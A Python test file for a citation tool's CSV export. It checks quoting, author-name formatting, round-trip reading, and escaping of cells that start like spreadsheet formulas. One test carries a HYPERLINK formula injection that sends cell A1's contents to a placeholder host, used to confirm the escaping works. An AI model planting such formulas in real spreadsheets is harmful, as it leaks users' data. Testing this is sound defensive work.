"""CSV tables: for spreadsheets, harmless, and read back."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from paperstui.index.citations import table
from paperstui.index.citations.cited import DEFAULTS, Cited
from paperstui.index.models import Author, Paper, Venue
from paperstui.index.readers import miniconf
from paperstui.index.readers.base import Origin
from paperstui.index.readers.miniconf import guarded, unguarded


def written(*papers: Cited) -> str:
    return "".join(table.write(papers, DEFAULTS))


def paper(title: str = "T", **facts: Any) -> Paper:
    return Paper("test:1", title, **{"venue": Venue("ICML", 2024), **facts})


def cells(cited: Cited) -> dict[str, str]:
    (row,) = csv.DictReader(io.StringIO(written(cited), newline=""))
    return {name: value for name, value in row.items() if value}


def only(content: str) -> Paper:
    (found,) = miniconf.read(io.BytesIO(content.encode()), Origin("x.csv"))
    assert isinstance(found, Paper)
    return found


def test_a_row_is_readable_text() -> None:
    full = paper(
        r'Deep $\alpha$ "Nets", etc.',
        authors=(Author("Test", "Max", "van der", "Jr."), Author("The Group")),
        abstract="One.\n\nTwo.",
        keywords=("a", "b"),
        rating=6.5,
        citations=0,
        note="seen",
    )
    assert cells(Cited(full, "k", ("rl", "x"), "Ask *Ada*.")) == {
        "key": "k",
        "title": 'Deep α "Nets", etc.',
        "authors": "van der Test, Max, Jr.; {The Group}",
        "venue": "ICML",
        "year": "2024",
        "type": "paper-conference",
        "keywords": "a; b",
        "rating": "6.5",
        "citations": "0",
        "tags": "rl; x",
        "note": "seen; Ask *Ada*.",
        "abstract": "One.\n\nTwo.",
    }


def test_lines_end_with_a_line_feed_and_all_cells_are_quoted() -> None:
    header, row, rest = written(Cited(paper(), "k")).split("\n")
    assert header == ",".join(f'"{name}"' for name in table.COLUMNS)
    assert row.startswith('"k","T","","ICML","2024",')
    assert rest == ""


@pytest.mark.parametrize("start", list("=+-@\t\r＝＋－＠"))
def test_no_cell_is_a_formula(start: str) -> None:
    cell = f'{start}HYPERLINK("http://x.org?"&A1,"x")'
    assert guarded(cell) == f"'{cell}"
    assert guarded(f"'{cell}") == f"''{cell}"
    assert unguarded(guarded(cell)) == cell


@given(st.text(st.sampled_from("'=+-@a \t"), max_size=5))
def test_what_is_guarded_comes_back(cell: str) -> None:
    assert not guarded(cell).startswith(tuple("=+-@\t"))
    assert unguarded(guarded(cell)) == cell


def test_titles_tags_and_notes_that_look_like_formulas_are_guarded() -> None:
    cited = Cited(paper("=1+1"), "@k", ("-tag",), "+note")
    found = cells(cited)
    assert [found[name] for name in ("key", "title", "tags", "note")] == [
        "'@k",
        "'=1+1",
        "'-tag",
        "'+note",
    ]
    back = only(written(cited))
    assert (back.title, back.native_key, back.note) == ("=1+1", "@k", "+note")


def test_an_apostrophe_that_guards_nothing_stays() -> None:
    assert only("title,authors\n'tis a test,Max Test\n").title == "'tis a test"


def test_the_authors_of_a_large_collaboration_fit_into_a_cell() -> None:
    people = tuple(Author(f"Test{n}", "Maximilian Alexander") for n in range(6000))
    assert only(written(Cited(paper(authors=people), "k"))).authors == people


def test_a_list_may_name_only_some() -> None:
    cut = paper(authors=(Author("Test", "Max"),), et_al=True)
    assert cells(Cited(cut, "k"))["authors"] == "Test, Max; et al."
    back = only(written(Cited(cut, "k")))
    assert (back.authors, back.et_al) == (cut.authors, True)
    assert not only(written(Cited(replace(cut, et_al=False), "k"))).et_al


def test_one_name_of_many_words_stays_one() -> None:
    people = (Author("Ben Ari", "Max", "", "Jr."),)
    cited = Cited(paper(authors=people), "k")
    assert cells(cited)["authors"] == "Ben Ari, Max, Jr.;"
    assert only(written(cited)).authors == people
